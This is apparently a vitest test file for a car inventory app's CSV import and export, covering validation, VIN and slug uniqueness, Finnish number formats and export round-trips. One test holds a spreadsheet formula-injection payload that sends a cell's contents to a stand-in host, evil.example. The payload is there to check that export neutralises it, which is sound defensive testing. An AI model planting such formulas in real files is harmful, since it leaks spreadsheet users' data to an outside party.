// CSV import and export of cars: a preview that writes nothing, per-row errors with line
// and field and no half-import, slugs and VINs unique within the file and against the
// database, Finnish number formats, progress events, export of a filter that re-imports,
// and spreadsheet formulas neutralised on export.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventMap } from '../../electron/core/api/events';
import { createTestCore, type TestCore } from '../support/core';
import { createRoleUsers, type RoleClients } from '../support/users';
import { corolla } from './fixtures';
import { vin } from './helpers';

let t: TestCore;
let u: RoleClients;

beforeAll(async () => {
  t = await createTestCore();
  u = await createRoleUsers(t.core);
});
afterAll(async () => t?.close());

const HEADER = 'name,brand,model,year,price_eur,mileage_km,fuel_type,transmission,category,vin,features,image_urls';
const file = (...rows: string[]) => [HEADER, ...rows].join('\n') + '\n';
const row = (name: string, over: { price?: string; fuel?: string; vin?: string; features?: string; images?: string; brand?: string; model?: string } = {}) =>
  [name, over.brand ?? 'Skoda', over.model ?? 'Fabia', '2019', over.price ?? '8900', '98000', over.fuel ?? 'petrol', 'manual', 'hatchback', over.vin ?? '', over.features ?? '', over.images ?? ''].join(',');

async function carCount(): Promise<number> {
  const { rows } = await t.core.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM cars');
  return rows[0]!.n;
}

/** Collects 'cars.importProgress' events while `fn` runs. */
async function withProgress<T>(fn: () => Promise<T>): Promise<{ value: T; events: EventMap['cars.importProgress'][] }> {
  const events: EventMap['cars.importProgress'][] = [];
  const off = t.core.events.on('cars.importProgress', (e) => events.push(e));
  try {
    return { value: await fn(), events };
  } finally {
    off();
  }
}

/** RFC 4180 with every cell quoted. */
const toCsv = (rows: string[][]) => rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n') + '\r\n';

describe('import', () => {
  it('a dry run previews the rows and writes nothing', async () => {
    const before = await carCount();
    const { value: r, events } = await withProgress(() => u.ADMIN.ok('cars.importCsv', { csv: file(row('Skoda Fabia 1.0 TSI'), row('Skoda Fabia Combi')), dryRun: true }));
    expect(r).toMatchObject({ rows: 2, valid: 2, errors: [], imported: 0 });
    expect(r.preview).toEqual([
      { line: 2, name: 'Skoda Fabia 1.0 TSI', brand: 'Skoda', model: 'Fabia', year: 2019, priceEur: 8900, slug: 'skoda-fabia-1-0-tsi' },
      { line: 3, name: 'Skoda Fabia Combi', brand: 'Skoda', model: 'Fabia', year: 2019, priceEur: 8900, slug: 'skoda-fabia-combi' },
    ]);
    expect(events).toEqual([]);
    expect(await carCount()).toBe(before);
  });

  it('one bad row: errors with line and field, and nothing is imported even without dryRun', async () => {
    const before = await carCount();
    const csv = file(row('Hyvä rivi'), row('Negatiivinen hinta', { price: '-500' }), row('Höyryauto', { fuel: 'steam' }), row('Toinen hyvä'));
    for (const dryRun of [true, false]) {
      const { value: r, events } = await withProgress(() => u.ADMIN.ok('cars.importCsv', { csv, dryRun }));
      expect(r.imported).toBe(0);
      expect(r.rows).toBe(4);
      expect(r.valid).toBe(2);
      expect(r.errors.map((e) => [e.line, e.field])).toEqual([
        [3, 'price_eur'],
        [4, 'fuel_type'],
      ]);
      expect(r.errors[0]!.message).toMatch(/negative/);
      expect(events).toEqual([]);
    }
    expect(await carCount()).toBe(before);
  });

  it('reports the line of the file even after a quoted multi-line cell and a blank line', async () => {
    const header = 'name,brand,model,year,price_eur,mileage_km,fuel_type,transmission,category,description';
    const csv = [
      header, // 1
      'Monirivinen,Skoda,Fabia,2019,8900,98000,petrol,manual,hatchback,"Ensimmäinen rivi', // 2
      'toinen rivi', // 3
      'kolmas rivi"', // 4
      '', // 5
      'Virheellinen vuosi,Skoda,Fabia,1800,8900,98000,petrol,manual,hatchback,', // 6
    ].join('\n');
    const r = await u.ADMIN.ok('cars.importCsv', { csv, dryRun: true });
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([[6, 'year']]);
    expect(r.preview.map((p) => p.line)).toEqual([2]);
  });

  it('a good file imports every row in one go: unique slugs, features split on |, first image primary, progress, audit', async () => {
    // Taken in the database already: the base slug and its -2.
    await u.ADMIN.ok('cars.create', corolla({ name: 'Volvo V70 Summum' }));
    await u.ADMIN.ok('cars.create', corolla({ name: 'Volvo V70 Summum' }));
    const special = [
      row('Volvo V70 Summum', { brand: 'Volvo', model: 'V70', features: 'Vetokoukku | Nahkasisusta|Webasto', images: 'https://img.example/v70/1.jpg|https://img.example/v70/2.jpg' }),
      row('Volvo V70 Summum', { brand: 'Volvo', model: 'V70', vin: vin(501).toLowerCase() }),
      row("Kia Cee'd 1.6", { brand: 'Kia', model: "Cee'd" }),
      row("Kia Cee'd 1.6", { brand: 'Kia', model: "Cee'd" }),
    ];
    const bulk = Array.from({ length: 126 }, (_, i) => row(`Massatuonti ${i}`, { price: String(5000 + i) }));
    const before = await carCount();
    const { value: r, events } = await withProgress(() => u.ADMIN.ok('cars.importCsv', { csv: file(...special, ...bulk), dryRun: false }));
    expect(r.errors).toEqual([]);
    expect(r.imported).toBe(130);
    expect(await carCount()).toBe(before + 130);
    expect(events.map((e) => [e.done, e.total])).toEqual([
      [100, 130],
      [130, 130],
    ]);
    expect(new Set(events.map((e) => e.jobId)).size).toBe(1);

    const { rows: imported } = await t.core.pool.query<{ id: string; slug: string; vin: string | null }>(
      "SELECT id, slug, vin FROM cars WHERE name IN ('Volvo V70 Summum', 'Kia Cee''d 1.6') AND created_by_id = $1 ORDER BY created_at, slug",
      [u.ids.ADMIN],
    );
    expect(imported.map((c) => c.slug).sort()).toEqual(['kia-cee-d-1-6', 'kia-cee-d-1-6-2', 'volvo-v70-summum', 'volvo-v70-summum-2', 'volvo-v70-summum-3', 'volvo-v70-summum-4']);
    expect(imported.find((c) => c.vin)?.vin).toBe(vin(501));

    const v70 = imported.find((c) => c.slug === 'volvo-v70-summum-3')!;
    const car = await u.VIEWER.ok('cars.get', { id: v70.id });
    expect(car.features).toEqual(['Vetokoukku', 'Nahkasisusta', 'Webasto']);
    expect(car.images.map((i) => [i.url, i.isPrimary])).toEqual([
      ['https://img.example/v70/1.jpg', true],
      ['https://img.example/v70/2.jpg', false],
    ]);
    expect(car.images.every((i) => i.alt.length > 0)).toBe(true);
    expect(car).toMatchObject({ fuelType: 'PETROL', transmission: 'MANUAL', category: 'HATCHBACK', status: 'AVAILABLE', priceEur: 8900 });

    const audit = await t.core.db.activityLog.count({ where: { action: 'car.create', metadata: { path: ['via'], equals: 'csv import' } } });
    expect(audit).toBe(130);
  });

  it('a duplicate VIN within the file or against the database is reported and nothing is imported', async () => {
    await u.ADMIN.ok('cars.create', corolla({ name: 'VIN varattu', vin: vin(700) }));
    const before = await carCount();
    const csv = file(row('Eka', { vin: vin(701) }), row('Toka', { vin: vin(701) }), row('Kolmas', { vin: vin(700).toLowerCase() }), row('Neljäs', { vin: vin(702) }));
    const r = await u.ADMIN.ok('cars.importCsv', { csv, dryRun: false });
    expect(r.imported).toBe(0);
    expect(r.errors.map((e) => [e.line, e.field])).toEqual([
      [3, 'vin'],
      [4, 'vin'],
    ]);
    expect(r.errors[0]!.message).toMatch(/line 2/);
    expect(await carCount()).toBe(before);
  });

  it('accepts a semicolon-separated file with Finnish numbers ("12 500,50")', async () => {
    const csv =
      '\uFEFF' +
      [
        'Name;Brand;Model;Year;Price EUR;Mileage km;Fuel type;Transmission;Category;Features',
        'Peugeot 308 SW;Peugeot;308;2018;12 500,50;123 000;diesel;manual;estate;Vetokoukku|Lohkolämmitin',
        // Excel in Finnish writes a no-break space between thousands.
        'Peugeot 208;Peugeot;208;2020;9\u00a0990,00;45\u202f000;petrol;automatic;hatchback;',
      ].join('\r\n');
    const r = await u.ADMIN.ok('cars.importCsv', { csv, dryRun: false });
    expect(r.errors).toEqual([]);
    expect(r.imported).toBe(2);
    const { rows } = await t.core.pool.query("SELECT name, price_eur::float8 AS price, mileage_km FROM cars WHERE brand = 'Peugeot' ORDER BY name");
    expect(rows).toEqual([
      { name: 'Peugeot 208', price: 9990, mileage_km: 45000 },
      { name: 'Peugeot 308 SW', price: 12500.5, mileage_km: 123000 },
    ]);
  });

  it('a header without the required columns is a VALIDATION error', async () => {
    const before = await carCount();
    const r = await u.ADMIN.call('cars.importCsv', { csv: 'name,brand,model,year\nSkoda Fabia,Skoda,Fabia,2019\n', dryRun: false });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('VALIDATION');
    expect(r.error.message).toMatch(/price_eur/);
    expect(r.error.message).toMatch(/fuel_type/);
    expect(await carCount()).toBe(before);
  });

  it('is for ADMIN and up: a VIEWER is refused', async () => {
    const r = await u.VIEWER.call('cars.importCsv', { csv: file(row('Katsoja')), dryRun: false });
    expect(r).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });
});

describe('export', () => {
  it('returns exactly the filtered cars, and the file re-imports after renaming', async () => {
    const saab = (n: number, over: Parameters<typeof corolla>[0] = {}) =>
      u.ADMIN.ok('cars.create', corolla({ name: `Saab 9-3 Aero ${n}`, brand: 'Saab', model: '9-3', priceEur: 7000 + n * 250.5, vin: vin(900 + n), ...over }));
    const wanted = [
      await saab(1, { description: 'Rivi yksi, pilkulla.\nRivi kaksi "lainauksin".', features: ['Vetokoukku', 'Kattoluukku'] }),
      await saab(2, { featured: true, status: 'INCOMING' }),
      await saab(3, { images: [] }),
    ];
    const trashed = await saab(4);
    await u.ADMIN.ok('cars.delete', { id: trashed.id, version: trashed.version });
    const otherBrand = await u.ADMIN.ok('cars.create', corolla({ name: 'Ei Saab' }));

    const exported = await u.VIEWER.ok('cars.exportCsv', { brand: ['Saab'] });
    expect(exported.mime).toBe('text/csv');
    const records = parse(exported.content, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.slug).sort()).toEqual(wanted.map((c) => c.slug).sort());
    expect(records.map((r) => r.slug)).not.toContain(otherBrand.slug);

    // The same filter through the list gives the same cars.
    const listed = await u.VIEWER.ok('cars.list', { brand: ['Saab'], limit: 200 });
    expect(listed.items.map((c) => c.slug).sort()).toEqual(records.map((r) => r.slug).sort());

    // Rename and give new VINs (a VIN is unique), then import the file as it is otherwise.
    const header = Object.keys(records[0]!);
    const renamed: Record<string, string>[] = records.map((r, i) => ({ ...r, name: `${r.name} (tuotu)`, vin: vin(950 + i) }));
    const csv = toCsv([header, ...renamed.map((r) => header.map((h) => r[h]!))]);
    const r = await u.ADMIN.ok('cars.importCsv', { csv, dryRun: false });
    expect(r.errors).toEqual([]);
    expect(r.imported).toBe(3);

    for (const original of wanted) {
      const { rows } = await t.core.pool.query<{ id: string }>('SELECT id FROM cars WHERE name = $1', [`${original.name} (tuotu)`]);
      expect(rows.length).toBe(1);
      const copy = await u.VIEWER.ok('cars.get', { id: rows[0]!.id });
      const same = (c: typeof original) => ({
        brand: c.brand, model: c.model, variant: c.variant, year: c.year, priceEur: c.priceEur, mileageKm: c.mileageKm, fuelType: c.fuelType,
        transmission: c.transmission, category: c.category, color: c.color, status: c.status, featured: c.featured, description: c.description,
        descriptionEn: c.descriptionEn, features: c.features, imageUrls: c.images.map((i) => i.url), primary: c.primaryImageUrl,
      });
      expect(same(copy)).toEqual(same(original));
      expect(copy.slug).toBe(`${original.slug}-tuotu`);
    }
  });

  it('neutralises cells that a spreadsheet would run as a formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")';
    await u.ADMIN.ok('cars.create', corolla({ name: formula, brand: 'Kaava', color: '@SUM(A1:A9)', description: '+358 40 123 4567', variant: '-1+1' }));
    const exported = await u.VIEWER.ok('cars.exportCsv', { brand: ['Kaava'] });
    const [record] = parse(exported.content, { bom: true, columns: true }) as Record<string, string>[];
    for (const cell of [record!.name, record!.color, record!.description, record!.variant]) {
      expect(cell).toMatch(/^'/);
      expect(cell).not.toMatch(/^[=+\-@]/);
    }
    expect(record!.name).toBe(`'${formula}`);
    // Nowhere in the raw file does a cell start with '=' (after a delimiter, a quote or a line start).
    expect(exported.content).not.toMatch(/(^|[,\n]|,")=HYPERLINK/m);
  });
});
